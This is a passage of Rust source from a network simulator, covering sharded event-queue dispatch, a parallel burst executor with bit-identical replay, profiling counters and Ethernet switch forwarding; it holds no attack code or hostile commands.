    /// sequence numbers preserved, so any shard count yields
    /// **bit-identical** output to `n == 1` — events always dispatch in
    /// global `(time, seq)` order; sharding only batches the read-only
    /// SINR planning of each lockstep window onto the rayon pool.
    pub fn set_shards(&mut self, n: usize) {
        assert!(
            self.queue.dispatched() == 0,
            "set_shards must run before the first run_until"
        );
        let old = std::mem::replace(&mut self.queue, ShardedQueue::new(n));
        self.region_map = None;
        self.ensure_region_map();
        for (at, seq, ev) in old.into_entries() {
            let shard = self.shard_for(&ev);
            let poll_node = match &ev {
                Event::NodePoll { node } => Some(*node as usize),
                _ => None,
            };
            let id = self.queue.schedule_at_seq(shard, at, seq, ev);
            // Pending-poll handles point into the old queue's shards;
            // rebind them to the migrated entries.
            if let Some(node) = poll_node {
                self.nodes[node].poll_event = Some((shard, id));
            }
        }
    }

    /// Number of event-loop shards (1 = classic serial loop).
    pub fn shards(&self) -> usize {
        self.queue.num_shards()
    }

    /// Width of the conservative lockstep window used by the sharded
    /// loop. A batching knob only — any width is bit-identical.
    pub fn set_shard_window(&mut self, window: SimDuration) {
        self.window = window;
    }

    /// Total events dispatched through the loop so far (the events/s
    /// numerator in the scaling benches).
    pub fn events_dispatched(&self) -> u64 {
        self.queue.dispatched()
    }

    /// Region ownership of an event: the stripe of the position whose
    /// state its dispatch touches first. Stable for the whole run once
    /// the region map exists; shard 0 before that (setup-time events).
    fn shard_for(&self, ev: &Event) -> usize {
        let Some(map) = &self.region_map else {
            return 0;
        };
        let node = match ev {
            Event::TxComplete { tx } => return map.region_of(self.medium.tx_src_pos(*tx)),
            Event::NodePoll { node } => *node,
            Event::WireDeliver(f) => f.node,
            Event::BridgeDeliver(f) => f.node,
            Event::TapDeliver(f) => f.node,
        };
        self.nodes[node as usize]
            .radios
            .first()
            .map(|rb| map.region_of(self.medium.pos(rb.radio)))
            .unwrap_or(0)
    }

    /// Schedule `ev`, routing it to its owning shard and counting
    /// boundary crossings: schedules landing on a different shard than
    /// the one currently dispatching, plus completions whose audible
    /// disc spills across a stripe edge.
    fn schedule_event(&mut self, at: SimTime, ev: Event) -> (usize, EventId) {
        let shard = self.shard_for(&ev);
        if self.queue.num_shards() > 1 {
            if shard != self.current_shard {
                self.sim_boundary_crossings += 1;
            } else if let (Event::TxComplete { tx }, Some(map)) = (&ev, &self.region_map) {
                if map.disc_crosses_region(
                    self.medium.tx_src_pos(*tx),
                    self.medium.tx_audible_range_m(*tx),
                ) {
                    self.sim_boundary_crossings += 1;
                }
            }
        }
        // Probing every insert would dominate the cost being measured;
        // sample 1-in-64 and extrapolate at snapshot time.
        self.sched_count += 1;
        let id = if self.sched_count & 0x3F == 0 {
            let t0 = profile::now();
            let id = self.queue.schedule(shard, at, ev);
            self.prof.record(Phase::QueueSchedule, t0);
            id
        } else {
            self.queue.schedule(shard, at, ev)
        };
        (shard, id)
    }

    /// Build the stripe partition from the current radio extent, once,
    /// on the first sharded run.
    fn ensure_region_map(&mut self) {
        if self.region_map.is_some()
            || self.queue.num_shards() == 1
            || self.medium.radio_count() == 0
        {
            return;
        }
        let (mut min_x, mut max_x) = (f64::INFINITY, f64::NEG_INFINITY);
        for i in 0..self.medium.radio_count() {
            let x = self.medium.pos(RadioId(i as u32)).x;
            min_x = min_x.min(x);
            max_x = max_x.max(x);
        }
        if !min_x.is_finite() || !max_x.is_finite() {
            (min_x, max_x) = (0.0, 0.0);
        }
        self.region_map = Some(RegionMap::new(self.queue.num_shards(), min_x, max_x));
    }

    /// Run until simulated time `deadline`.
    pub fn run_until(&mut self, deadline: SimTime) {
        let mut plans: Vec<(TxHandle, TxPlan)> = Vec::new();
        if self.queue.num_shards() == 1 {
            // Classic serial loop: pop-dispatch one event at a time.
            loop {
                let t0 = profile::now();
                let popped = self.queue.pop_until(deadline);
                self.prof.record(Phase::QueuePop, t0);
                let Some((now, ev, _)) = popped else { break };
                let kind = self.prof_kinds[event_kind(&ev)];
                let t0 = profile::now();
                self.dispatch_event(now, ev, &mut plans);
                self.prof.record_kind(kind, t0);
            }
        } else {
            self.ensure_region_map();
            self.run_windows(deadline, &mut plans);
        }
        // Mirror the medium's counters into the metrics sink so reports
        // and tests read them the same way as the `mac.*` family.
        self.metrics.set("phy.frames_sent", self.medium.frames_sent);
        self.metrics
            .set("phy.halfduplex_misses", self.medium.halfduplex_misses);
        self.metrics.set("phy.sinr_drops", self.medium.sinr_drops);
        let (pairs, hits, misses) = self.medium.pathloss_cache_stats();
        self.metrics.set("phy.pathloss_cache_pairs", pairs as u64);
        self.metrics.set("phy.pathloss_cache_hits", hits);
        self.metrics.set("phy.pathloss_cache_misses", misses);
        self.metrics
            .set("phy.audible_rows_reused", self.medium.audible_rows_reused());
        self.metrics.set(
            "phy.power_map_entries",
            self.medium.power_map_entries() as u64,
        );
        // Mirror the VPN record-layer counters (summed over every tun
        // binding) the same way: `vpn.bytes_copied` staying 0 is the
        // observable proof the zero-copy record path held (DESIGN §12).
        let (mut sealed, mut opened, mut copied) = (0u64, 0u64, 0u64);
        for node in &self.nodes {
            if let Some(tun) = &node.tun {
                let (s, o, c) = match &tun.role {
                    TunRole::Client(cl) => cl.record_stats(),
                    TunRole::Server(sv) => sv.record_stats(),
                };
                sealed += s;
                opened += o;
                copied += c;
            }
        }
        self.metrics.set("vpn.records_sealed", sealed);
        self.metrics.set("vpn.records_opened", opened);
        self.metrics.set("vpn.bytes_copied", copied);
        // Sharded-loop observability (all zero in the serial loop).
        // These live beside `phy.*` in the sink but are never rendered
        // into a golden table: they vary with the shard count while
        // every table must not.
        self.metrics.set("sim.windows", self.sim_windows);
        self.metrics
            .set("sim.boundary_crossings", self.sim_boundary_crossings);
        self.metrics
            .set("sim.plans_parallel", self.sim_plans_parallel);
        self.metrics
            .set("sim.plans_committed", self.sim_plans_committed);
        self.metrics.set("sim.plans_stale", self.sim_plans_stale);
        self.metrics
            .set("sim.shard_occupancy_max", self.sim_shard_occupancy_max);
        // Profiler breakdown: wall-clock, so strictly `sim.*` (never in
        // a golden table, which must be identical across shard counts
        // and hosts).
        let snap = self.profile_snapshot();
        for (i, &(_, ns, _)) in snap.phases.iter().enumerate() {
            self.metrics.set(PROF_PHASE_KEYS[i], ns);
        }
        for (i, &(_, ns, _)) in snap.kinds.iter().enumerate() {
            self.metrics.set(PROF_KIND_KEYS[i], ns);
        }
        self.metrics.set("sim.prof.overhead_ns", snap.overhead_ns);
        self.metrics.set("sim.prof.dispatch_ns", snap.dispatch_ns);
        self.metrics
            .set("sim.prof.overhead_permille", snap.overhead_permille());
    }

    /// Calibrated profiler snapshot: per-phase and per-event-kind time,
    /// plus the measured probe overhead. The sampled QueueSchedule phase
    /// is extrapolated to the full schedule count here.
    pub fn profile_snapshot(&self) -> rogue_sim::profile::Snapshot {
        let mut snap = self.prof.snapshot();
        let row = &mut snap.phases[Phase::QueueSchedule as usize];
        if let Some(scaled) = (row.1 * self.sched_count).checked_div(row.2) {
            row.1 = scaled;
            row.2 = self.sched_count;
        }
        snap
    }

    /// Could dispatching `ev` emit a `SetChannel` — directly from a
    /// receive, or from the poll that follows? A frozen completion plan
    /// is only committed unvalidated when no hazard precedes it in the
    /// burst: a same-instant `begin_tx` provably cannot perturb a
    /// completion at the same instant (DESIGN §17), but a retune can.
    fn event_may_retune(&self, now: SimTime, ev: &Event, plan: Option<&TxPlan>) -> bool {
        match ev {
            Event::TxComplete { .. } => {
                let Some(plan) = plan else {
                    return true; // unplanned completion: assume the worst
                };
                plan.deliveries().iter().any(|d| {
                    let (node, radio) = self.radio_owner[d.to.0 as usize];
                    let rx = match &self.nodes[node].radios[radio].role {
                        RadioRole::Sta { mac, .. } => mac.rx_may_retune(&d.bytes, d.rssi_dbm),
                        _ => false,
                    };
                    rx || self.node_poll_hazard(node, now)
                })
            }
            Event::NodePoll { node } => self.node_poll_hazard(*node as usize, now),
            Event::WireDeliver(f) => self.node_poll_hazard(f.node as usize, now),
            Event::BridgeDeliver(f) => self.node_poll_hazard(f.node as usize, now),
            Event::TapDeliver(_) => false,
        }
    }

    /// Could polling `node` at `now` emit a `SetChannel`? Only STA MACs
    /// retune (scan hops, roams, beacon-loss rescans) and injectors are
    /// trusted to declare themselves via `FrameInjector::may_retune`.
    fn node_poll_hazard(&self, node: usize, now: SimTime) -> bool {
        self.nodes[node].radios.iter().any(|rb| match &rb.role {
            RadioRole::Sta { mac, .. } => mac.poll_may_retune(now),
            RadioRole::Injector { injector } => injector.may_retune(),
            _ => false,
        })
    }

    /// Execute one burst with genuinely parallel node work (DESIGN §17).
    ///
    /// Protocol: plan every completion against pre-burst state; split
    /// the burst at the first completion preceded by a retune hazard;
    /// run the prefix's node work as per-node task chains on the rayon
    /// pool (shared-state effects deferred as ops); then commit at the
    /// barrier in global `(time, seq)` order — frozen plan, then that
    /// event's ops in emission order — which replays the serial
    /// mutation schedule byte-for-byte. The suffix goes through the
    /// classic serial validate-or-replan dispatch.
    ///
    /// Returns false (burst untouched) when the burst is too small to
    /// pay for the pool round-trip.
    fn dispatch_burst_parallel(
        &mut self,
        t: SimTime,
        burst: &mut Vec<(Event, usize)>,
        plans: &mut Vec<(TxHandle, TxPlan)>,
    ) -> bool {
        const MIN_PARALLEL_EVENTS: usize = 4;
        if burst.len() < MIN_PARALLEL_EVENTS {
            return false;
        }
        if self.chain_map.len() < self.nodes.len() {
            self.chain_map.resize(self.nodes.len(), u32::MAX);
        }

        // Plan every completion in the burst against pre-burst state.
        // Prefix plans are *frozen* (committed without validation);
        // suffix plans feed the validate-or-replan path.
        let mut plans_by_event: Vec<Option<TxPlan>> = burst.iter().map(|_| None).collect();
        let todo: Vec<(usize, TxHandle)> = burst
            .iter()
            .enumerate()
            .filter_map(|(i, (ev, _))| match ev {
                Event::TxComplete { tx } => Some((i, *tx)),
                _ => None,
            })
            .collect();
        if !todo.is_empty() {
            let t0 = profile::now();
            let medium = &self.medium;
            let computed: Vec<TxPlan> = if todo.len() > 1 {
                todo.par_iter()
                    .map(|&(_, tx)| medium.plan_complete(t, tx))
                    .collect()
            } else {
                todo.iter()
                    .map(|&(_, tx)| medium.plan_complete(t, tx))
                    .collect()
            };
            self.sim_plans_parallel += computed.len() as u64;
            for ((i, _), plan) in todo.iter().zip(computed) {
                plans_by_event[*i] = Some(plan);
            }
            self.prof.record(Phase::MediumPlan, t0);
        }

        // Find the split: the first completion preceded by a retune
        // hazard, and everything after it, must dispatch serially.
        let mut split = burst.len();
        let mut hazard = false;
        for (i, (ev, _)) in burst.iter().enumerate() {
            if hazard && matches!(ev, Event::TxComplete { .. }) {
                split = i;
                break;
            }
            if !hazard && self.event_may_retune(t, ev, plans_by_event[i].as_ref()) {
                hazard = true;
            }
        }

        // A trivial prefix, or one whose work all lands on a single
        // node, cannot use the pool — demote to all-serial replay
        // (which still reuses the speculative plans).
        if split < MIN_PARALLEL_EVENTS {
            split = 0;
        } else {
            let mut marks: Vec<usize> = Vec::new();
            for (i, (ev, _)) in burst.iter().take(split).enumerate() {
                match ev {
                    Event::TxComplete { .. } => {
                        let plan = plans_by_event[i].as_ref().expect("completion was planned");
                        for d in plan.deliveries() {
                            let (node, _) = self.radio_owner[d.to.0 as usize];
                            if self.chain_map[node] == u32::MAX {
                                self.chain_map[node] = 0;
                                marks.push(node);
                            }
                        }
                    }
                    Event::NodePoll { node } => {
                        let n = *node as usize;
                        if self.chain_map[n] == u32::MAX {
                            self.chain_map[n] = 0;
                            marks.push(n);
                        }
                    }
                    Event::WireDeliver(f) => {
                        let n = f.node as usize;
                        if self.chain_map[n] == u32::MAX {
                            self.chain_map[n] = 0;
                            marks.push(n);
                        }
                    }
                    Event::BridgeDeliver(f) => {
                        let n = f.node as usize;
                        if self.chain_map[n] == u32::MAX {
                            self.chain_map[n] = 0;
                            marks.push(n);
                        }
                    }
                    Event::TapDeliver(f) => {
                        let n = f.node as usize;
                        if self.chain_map[n] == u32::MAX {
                            self.chain_map[n] = 0;
                            marks.push(n);
                        }
                    }
                }
            }
            let distinct = marks.len();
            for n in marks {
                self.chain_map[n] = u32::MAX;
            }
            if distinct < 2 {
                split = 0;
            }
        }

        if split > 0 {
            // ---- Build the prefix task list in canonical order. ----
            let mut tasks: Vec<Task> = Vec::with_capacity(split * 2);
            // Per prefix event: (shard, kind index, end of its task range).
            let mut ev_meta: Vec<(usize, usize, u32)> = Vec::with_capacity(split);
            let mut touched = std::mem::take(&mut self.touched_scratch);
            for (i, (ev, shard)) in burst.drain(..split).enumerate() {
                let kind = self.prof_kinds[event_kind(&ev)];
                let event = i as u32;
                match ev {
                    Event::TxComplete { .. } => {
                        let plan = plans_by_event[i].as_ref().expect("completion was planned");
                        touched.clear();
                        for d in plan.deliveries() {
                            let (node, radio) = self.radio_owner[d.to.0 as usize];
                            tasks.push(Task {
                                event,
                                node: node as u32,
                                kind: TaskKind::Receive {
                                    radio: radio as u32,
                                    bytes: d.bytes.clone(),
                                    rssi_dbm: d.rssi_dbm,
                                    channel: d.channel,
                                },
                            });
                            if !touched.contains(&node) {
                                touched.push(node);
                            }
                        }
                        for &node in &touched {
                            tasks.push(Task {
                                event,
                                node: node as u32,
                                kind: TaskKind::TouchPoll,
                            });
                        }
                    }
                    Event::NodePoll { node } => tasks.push(Task {
                        event,
                        node,
                        kind: TaskKind::PollEvent,
                    }),
                    Event::WireDeliver(f) => tasks.push(Task {
                        event,
                        node: f.node,
                        kind: TaskKind::HostRx {
                            iface: f.iface,
                            bytes: f.bytes,
                        },
                    }),
                    Event::BridgeDeliver(f) => tasks.push(Task {
                        event,
                        node: f.node,
                        kind: TaskKind::BridgeRx {
                            radio: f.radio,
                            bytes: f.bytes,
                        },
                    }),
                    Event::TapDeliver(f) => tasks.push(Task {
                        event,
                        node: f.node,
                        kind: TaskKind::Tap { bytes: f.bytes },
                    }),
                }
                ev_meta.push((shard, kind, tasks.len() as u32));
            }
            touched.clear();
            self.touched_scratch = touched;

            // Group tasks into per-node chains (execution units).
            let mut chains: Vec<Vec<u32>> = Vec::new();
            for (ti, task) in tasks.iter().enumerate() {
                let ci = self.chain_map[task.node as usize];
                if ci == u32::MAX {
                    self.chain_map[task.node as usize] = chains.len() as u32;
                    chains.push(vec![ti as u32]);
                } else {
                    chains[ci as usize].push(ti as u32);
                }
            }
            for task in &tasks {
                self.chain_map[task.node as usize] = u32::MAX;
            }

            // ---- Exec: run chains on the pool. Node work never
            // touches shared state (the mutation-epoch check enforces
            // the medium half of that claim).
            let epoch = self.medium.mutation_epoch();
            let view = NodesView {
                ptr: self.nodes.as_mut_ptr(),
            };
            let tasks_ref = &tasks;
            let wall0 = profile::now();
            let results: Vec<Vec<(u32, u64, Vec<Op>)>> = chains
                .par_iter()
                .map(|chain| {
                    // Capture the whole view (not its raw-ptr field) so
                    // the Send/Sync promises on `NodesView` apply.
                    let view = view;
                    EXEC_SCRATCH.with(|cell| {
                        let scratch = &mut *cell.borrow_mut();
                        let mut out = Vec::with_capacity(chain.len());
                        for &ti in chain {
                            let task = &tasks_ref[ti as usize];
                            // Safety: this chain is the unique owner of
                            // `task.node` for the whole region.
                            let node = unsafe { &mut *view.ptr.add(task.node as usize) };
                            let mut ops = Vec::new();
                            let c0 = profile::now();
                            let mut cx = NodeCtx {
                                now: t,
                                idx: task.node as usize,
                                node,
                                ops: &mut ops,
                                scratch,
                            };
                            match &task.kind {
                                TaskKind::Receive {
                                    radio,
                                    bytes,
                                    rssi_dbm,
                                    channel,
                                } => cx.receive_on_radio(*radio as usize, bytes, *rssi_dbm, *channel),
                                TaskKind::TouchPoll => cx.poll_node(),
                                TaskKind::PollEvent => {
                                    cx.ops.push(Op::PollFired { node: task.node });
                                    cx.poll_node();
                                }
                                TaskKind::HostRx { iface, bytes } => {
                                    cx.node.host.on_link_rx(t, *iface, bytes);
                                    cx.poll_node();
                                }
                                TaskKind::BridgeRx { radio, bytes } => {
                                    cx.bridge_wired_rx(*radio as usize, bytes);
                                    cx.poll_node();
                                }
                                TaskKind::Tap { bytes } => {
                                    if let Some(mon) = &mut cx.node.wired_monitor {
                                        mon.inspect(t, bytes);
                                    }
                                    if let Some(tap) = &mut cx.node.wire_tap {
                                        tap.frames.push((t, bytes.clone()));
                                    }
                                }
                            }
                            let cycles = profile::now().wrapping_sub(c0);
                            out.push((ti, cycles, ops));
                        }
                        out
                    })
                })
                .collect();
            self.prof.record(Phase::ExecWall, wall0);
            debug_assert_eq!(
                self.medium.mutation_epoch(),
                epoch,
                "parallel node work must not touch the medium"
            );

            // Merge per-task results back into canonical task order.
            let ntasks = tasks.len();
            let mut ops_by_task: Vec<Vec<Op>> = (0..ntasks).map(|_| Vec::new()).collect();
            let mut cycles_by_task: Vec<u64> = vec![0; ntasks];
            for chain in results {
                for (ti, cycles, ops) in chain {
                    cycles_by_task[ti as usize] = cycles;
                    ops_by_task[ti as usize] = ops;
                }
            }
            // Cumulative worker-time attribution, global and per-shard.
            for (ti, task) in tasks.iter().enumerate() {
                let phase = match task.kind {
                    TaskKind::Receive { .. } => Phase::Deliver,
                    _ => Phase::Poll,
                };
                let shard = ev_meta[task.event as usize].0;
                self.prof.add_cycles(phase, cycles_by_task[ti], 1, 1);
                self.prof
                    .add_shard_cycles(shard, phase, cycles_by_task[ti], 1);
            }

            // ---- Barrier: commit in global (time, seq) order. ----
            let mut task_cursor = 0usize;
            for (i, &(shard, kind, task_end)) in ev_meta.iter().enumerate() {
                self.current_shard = shard;
                let c0 = profile::now();
                if let Some(plan) = plans_by_event[i].take() {
                    self.sim_plans_committed += 1;
                    let t0 = profile::now();
                    let _ = self.medium.commit_complete(plan);
                    self.prof.record(Phase::MediumCommit, t0);
                }
                let t0 = profile::now();
                let mut nops = 0u64;
                while task_cursor < task_end as usize {
                    nops += ops_by_task[task_cursor].len() as u64;
                    for op in std::mem::take(&mut ops_by_task[task_cursor]) {
                        self.commit_op(t, op);
                    }
                    task_cursor += 1;
                }
                if nops > 0 {
                    self.prof.record_many(Phase::OpCommit, t0, nops);
                }
                let barrier_cycles = profile::now().wrapping_sub(c0);
                let tstart = if i == 0 { 0 } else { ev_meta[i - 1].2 as usize };
                let task_cycles: u64 = cycles_by_task[tstart..task_end as usize].iter().sum();
                self.prof
                    .add_kind_cycles(kind, barrier_cycles.wrapping_add(task_cycles), 1, 1);
            }
        }

        // Suffix (the whole burst when split == 0): classic serial
        // dispatch; speculative plans go through validate-or-replan.
        for p in plans_by_event.into_iter().flatten() {
            plans.push((p.handle(), p));
        }
        for (ev, shard) in burst.drain(..) {
            self.current_shard = shard;
            let kind = self.prof_kinds[event_kind(&ev)];
            let t0 = profile::now();
            self.dispatch_event(t, ev, plans);
            self.prof.record_kind(kind, t0);
        }
        self.current_shard = 0;
        debug_assert!(plans.is_empty(), "burst left unconsumed plans");
        plans.clear();
        true
    }

    /// The sharded loop: conservative lockstep windows. Each window
    /// `[head, head + window]` first *plans* every pending `TxComplete`
    /// inside it in parallel on the rayon pool (`plan_complete` is pure,
    /// `&Medium`), then replays all events serially in global
    /// `(time, seq)` order, committing plans that survived conflict
    /// checks and transparently replanning the rest. See DESIGN.md §15
    /// for the bit-identity argument, and §17 for the parallel burst
    /// executor layered on top.
    fn run_windows(&mut self, deadline: SimTime, plans: &mut Vec<(TxHandle, TxPlan)>) {
        // Scratch buffers reused across every burst in the run.
        let mut burst: Vec<(Event, usize)> = Vec::new();
        let mut todo: Vec<TxHandle> = Vec::new();
        // Speculative planning is a bet: compute completions ahead of
        // the replay and hope the channel-version guard lets them
        // commit. On a 1-thread pool the bet can never pay — the plans
        // are computed serially in the same thread that would have run
        // `complete_tx` anyway, and every stale one is paid for twice.
        // Plan only when the pool can genuinely overlap the work.
        let plan_on_pool = rayon::current_num_threads() > 1;
        self.prof.ensure_shards(self.queue.num_shards());
        while let Some(head) = self.queue.peek_time() {
            if head > deadline {
                break;
            }
            let window_end = (head + self.window).min(deadline);
            self.sim_windows += 1;
            let occupancy = (0..self.queue.num_shards())
                .map(|s| self.queue.shard_len(s))
                .max()
                .unwrap_or(0) as u64;
            self.sim_shard_occupancy_max = self.sim_shard_occupancy_max.max(occupancy);

            // Replay the window burst by burst. A burst is every event
            // pending at one instant `t` — the unit at which parallel
            // planning actually pays: synchronized completions (beacon
            // storms, lockstep traffic) land at the same instant, and a
            // burst cannot invalidate its own plans except through a
            // same-instant `begin_tx`, which the channel-version guard
            // catches at commit. Planning any further ahead is wasted
            // work whenever dispatch triggers responses: each response's
            // `begin_tx` is a new interferer for every later in-flight
            // completion, staling the rest of the window wholesale.
            loop {
                // Drain the next instant whole. Dispatches may schedule
                // *new* events at `t` (immediate polls); those carry
                // higher seqs, so the outer loop picks them up as the
                // next burst — still in global (time, seq) order. One
                // probe pair, `burst.len()` pops: the per-pop count must
                // stay comparable with the serial loop's.
                let t0 = profile::now();
                let drained = self.queue.pop_instant_into(window_end, &mut burst);
                self.prof
                    .record_many(Phase::QueuePop, t0, burst.len() as u64);
                let Some(t) = drained else { break };

                // Large bursts take the parallel executor: node work on
                // the pool, shared effects op-committed at the barrier.
                if plan_on_pool && self.dispatch_burst_parallel(t, &mut burst, plans) {
                    continue;
                }

                // Plan phase: compute this burst's completions on the
                // pool. A lone completion is planned serially at
                // dispatch — no pool round-trip for nothing.
                todo.extend(burst.iter().filter_map(|(ev, _)| match ev {
                    Event::TxComplete { tx } => Some(*tx),
                    _ => None,
                }));
                if plan_on_pool && todo.len() > 1 {
                    let t0 = profile::now();
                    let medium = &self.medium;
                    let computed: Vec<TxPlan> = todo
                        .par_iter()
                        .map(|&tx| medium.plan_complete(t, tx))
                        .collect();
                    self.sim_plans_parallel += computed.len() as u64;
                    plans.extend(computed.into_iter().map(|p| (p.handle(), p)));
                    self.prof.record(Phase::MediumPlan, t0);
                }

                todo.clear();

                // Commit phase: strict global (time, seq) replay.
                for (ev, shard) in burst.drain(..) {
                    self.current_shard = shard;
                    let kind = self.prof_kinds[event_kind(&ev)];
                    let t0 = profile::now();
                    self.dispatch_event(t, ev, plans);
                    self.prof.record_kind(kind, t0);
                }
                self.current_shard = 0;
                debug_assert!(plans.is_empty(), "burst left unconsumed plans");
                plans.clear();
            }
        }
    }

    /// Dispatch one event. `plans` holds precomputed completion plans
    /// from the current lockstep window (always empty in serial mode);
    /// a plan invalidated by an intervening mutation is recomputed here,
    /// on the same pure code path the serial loop uses.
    fn dispatch_event(&mut self, now: SimTime, ev: Event, plans: &mut Vec<(TxHandle, TxPlan)>) {
        let mut ops = std::mem::take(&mut self.ops_scratch);
        let mut scratch = std::mem::take(&mut self.node_scratch);
        debug_assert!(ops.is_empty());
        match ev {
            Event::TxComplete { tx } => {
                // Bursts are small (usually 0 or 1 plans), so a linear
                // scan beats hashing the handle.
                let plan = plans
                    .iter()
                    .position(|(h, _)| *h == tx)
                    .map(|i| plans.swap_remove(i).1);
                let deliveries = match plan {
                    Some(plan) if self.medium.plan_is_current(&plan) => {
                        self.sim_plans_committed += 1;
                        let t0 = profile::now();
                        let d = self.medium.commit_complete(plan);
                        self.prof.record(Phase::MediumCommit, t0);
                        d
                    }
                    stale => {
                        // complete_tx == plan_complete + commit_complete;
                        // split here so each phase is attributed.
                        if stale.is_some() {
                            self.sim_plans_stale += 1;
                        }
                        let t0 = profile::now();
                        let plan = self.medium.plan_complete(now, tx);
                        self.prof.record(Phase::MediumPlan, t0);
                        let t0 = profile::now();
                        let d = self.medium.commit_complete(plan);
                        self.prof.record(Phase::MediumCommit, t0);
                        d
                    }
                };
                let t0 = profile::now();
                let mut touched = std::mem::take(&mut self.touched_scratch);
                debug_assert!(touched.is_empty());
                for d in deliveries {
                    let (node, radio) = self.radio_owner[d.to.0 as usize];
                    NodeCtx {
                        now,
                        idx: node,
                        node: &mut self.nodes[node],
                        ops: &mut ops,
                        scratch: &mut scratch,
                    }
                    .receive_on_radio(radio, &d.bytes, d.rssi_dbm, d.channel);
                    if !touched.contains(&node) {
                        touched.push(node);
                    }
                }
                self.prof.record(Phase::Deliver, t0);
                let t0 = profile::now();
                for &node in &touched {
                    NodeCtx {
                        now,
                        idx: node,
                        node: &mut self.nodes[node],
                        ops: &mut ops,
                        scratch: &mut scratch,
                    }
                    .poll_node();
                }
                self.prof.record(Phase::Poll, t0);
                touched.clear();
                self.touched_scratch = touched;
            }
            Event::NodePoll { node } => {
                let node = node as usize;
                // With the cancel discipline there is exactly one
                // pending entry and it fires at `scheduled_poll`. The
                // clear is itself an op (emitted first) so the
                // `SchedulePoll` gate sees the serial-order state at
                // commit time — see `Op::PollFired`.
                ops.push(Op::PollFired { node: node as u32 });
                let t0 = profile::now();
                NodeCtx {
                    now,
                    idx: node,
                    node: &mut self.nodes[node],
                    ops: &mut ops,
                    scratch: &mut scratch,
                }
                .poll_node();
                self.prof.record(Phase::Poll, t0);
            }
            Event::WireDeliver(f) => {
                let node = f.node as usize;
                let t0 = profile::now();
                let mut cx = NodeCtx {
                    now,
                    idx: node,
                    node: &mut self.nodes[node],
                    ops: &mut ops,
                    scratch: &mut scratch,
                };
                cx.node.host.on_link_rx(now, f.iface, &f.bytes);
                cx.poll_node();
                self.prof.record(Phase::Poll, t0);
            }
            Event::BridgeDeliver(f) => {
                let node = f.node as usize;
                let t0 = profile::now();
                let mut cx = NodeCtx {
                    now,
                    idx: node,
                    node: &mut self.nodes[node],
                    ops: &mut ops,
                    scratch: &mut scratch,
                };
                cx.bridge_wired_rx(f.radio as usize, &f.bytes);
                cx.poll_node();
                self.prof.record(Phase::Poll, t0);
            }
            Event::TapDeliver(f) => {
                if let Some(mon) = &mut self.nodes[f.node as usize].wired_monitor {
                    mon.inspect(now, &f.bytes);
                }
                if let Some(tap) = &mut self.nodes[f.node as usize].wire_tap {
                    tap.frames.push((now, f.bytes));
                }
            }
        }
        // Commit: replay the deferred shared-state effects in emission
        // order, which equals the old inline mutation order.
        if !ops.is_empty() {
            let t0 = profile::now();
            let n = ops.len() as u64;
            for op in ops.drain(..) {
                self.commit_op(now, op);
            }
            self.prof.record_many(Phase::OpCommit, t0, n);
        }
        self.ops_scratch = ops;
        self.node_scratch = scratch;
    }

    /// Apply one deferred op. Called in emission order at an event's (or
    /// a burst barrier's) commit point; the sequence of medium
    /// mutations, queue inserts, world-RNG draws and log appends this
    /// produces is exactly what the old inline code did.
    fn commit_op(&mut self, now: SimTime, op: Op) {
        match op {
            Op::BeginTx {
                radio,
                bytes,
                bitrate,
            } => {
                let (tx, end) = self.medium.begin_tx(now, radio, bytes, bitrate);
                self.schedule_event(end, Event::TxComplete { tx });
            }
            Op::SetChannel { radio, channel } => self.medium.set_channel(radio, channel),
            Op::SwitchTx { sw, in_port, bytes } => {
                self.switch_tx(now, sw as usize, in_port as usize, bytes)
            }
            Op::PollFired { node } => {
                let n = &mut self.nodes[node as usize];
                debug_assert_eq!(n.scheduled_poll, now);
                n.scheduled_poll = SimTime::FOREVER;
                n.poll_event = None;
            }
            Op::SchedulePoll { node, wake } => self.schedule_poll(node as usize, wake),
            Op::Mac { node, ev } => {
                match &ev {
                    MacEvent::Associated { .. } => self.metrics.incr("mac.associated"),
                    MacEvent::Disassociated { forced: true, .. } => {
                        self.metrics.incr("mac.deauth_forced")
                    }
                    MacEvent::Disassociated { forced: false, .. } => {
                        self.metrics.incr("mac.assoc_lost")
                    }
                    MacEvent::ClientAssociated { .. } => self.metrics.incr("mac.ap_client_joined"),
                    MacEvent::ClientRejected { .. } => self.metrics.incr("mac.ap_client_rejected"),
                    MacEvent::TxFailed { .. } => self.metrics.incr("mac.tx_failed"),
                    MacEvent::WepDecryptFailed { .. } => self.metrics.incr("mac.wep_failed"),
                }
                self.mac_events.push((now, NodeId(node as usize), ev));
            }
            Op::App { node, ev } => self.app_events.push((now, NodeId(node as usize), ev)),
        }
    }

    fn switch_tx(&mut self, now: SimTime, sw: usize, in_port: usize, bytes: Bytes) {
        let loss = self.switches[sw].loss;
        if loss > 0.0 && self.rng.chance(loss) {
            return; // frame lost on the segment
        }
        let jitter = self.switches[sw].jitter;
        let extra = if jitter > SimDuration::ZERO {
            SimDuration::from_nanos(self.rng.below(jitter.as_nanos() + 1))
        } else {
            SimDuration::ZERO
        };
        self.metrics.incr("wire.frames");
        let (latency, targets) = {
            let switch = &mut self.switches[sw];
            switch.frames += 1;
            let Some(eth) = EthFrame::decode(&bytes) else {
                return;
            };
            if !eth.src.is_multicast() {
                switch.table.insert(eth.src, in_port);
            }
            let out_ports: Vec<usize> = if eth.dst.is_multicast() {
                (0..switch.ports.len()).filter(|&p| p != in_port).collect()
            } else {
                match switch.table.get(&eth.dst) {
                    Some(&p) if p != in_port => vec![p],
                    Some(_) => Vec::new(),
                    None => (0..switch.ports.len()).filter(|&p| p != in_port).collect(),
                }
            };
            // Taps always get a copy (span port semantics).
            let mut sel: Vec<usize> = out_ports;
            for (p, t) in switch.ports.iter().enumerate() {
                if matches!(t, PortTarget::Tap { .. }) && !sel.contains(&p) && p != in_port {
                    sel.push(p);
                }
            }
            (switch.latency, sel)
        };
        for p in targets {
            let ev = match &self.switches[sw].ports[p] {
                PortTarget::HostIface { node, iface } => Event::WireDeliver(Box::new(WireFrame {
                    node: *node as u32,
                    iface: *iface,
                    bytes: bytes.clone(),
                })),
                PortTarget::Bridge { node, radio } => Event::BridgeDeliver(Box::new(BridgeFrame {
                    node: *node as u32,
                    radio: *radio as u32,
                    bytes: bytes.clone(),
                })),
                PortTarget::Tap { node } => Event::TapDeliver(Box::new(TapFrame {
                    node: *node as u32,
                    bytes: bytes.clone(),
                })),
            };
            self.schedule_event(now + latency + extra, ev);
        }
    }

    fn schedule_poll(&mut self, node: usize, wake: SimTime) {
        if wake == SimTime::FOREVER {
            return;
        }
        let at = wake.max(self.queue.now());
        if self.nodes[node].scheduled_poll <= at {
            return; // an earlier-or-equal poll is already pending
